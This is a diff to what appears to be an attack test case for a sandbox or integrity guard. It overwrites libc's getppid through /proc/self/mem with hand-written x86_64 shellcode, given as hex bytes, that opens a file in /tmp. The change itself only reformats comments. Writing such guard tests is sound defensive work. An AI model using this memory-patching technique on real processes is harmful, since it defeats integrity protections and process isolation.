@@ -1,13 +1,15 @@
 # class: machine_code
 # rule: guard_integrity
 # needs: x86_64
-# success: machine code written over a function of libc through /proc/self/mem, in plain Python, reads a file in /tmp
+# success: machine code written over a function of libc through /proc/self/mem, in plain Python,
+#   reads a file in /tmp
 # proof: read
 import os
 
 from attack import FILE, attempt, by_address
 
-# For getppid(): open the file whose name lies behind, read it to the end of the page, and answer with its descriptor.
+# In place of getppid(): opens the file whose name follows, reads it to the end of the page, returns
+# its fd.
 CODE = bytes.fromhex("b802000000488d3d0f00000031f631d20f05c3") + b"\x90" * 8
 
 
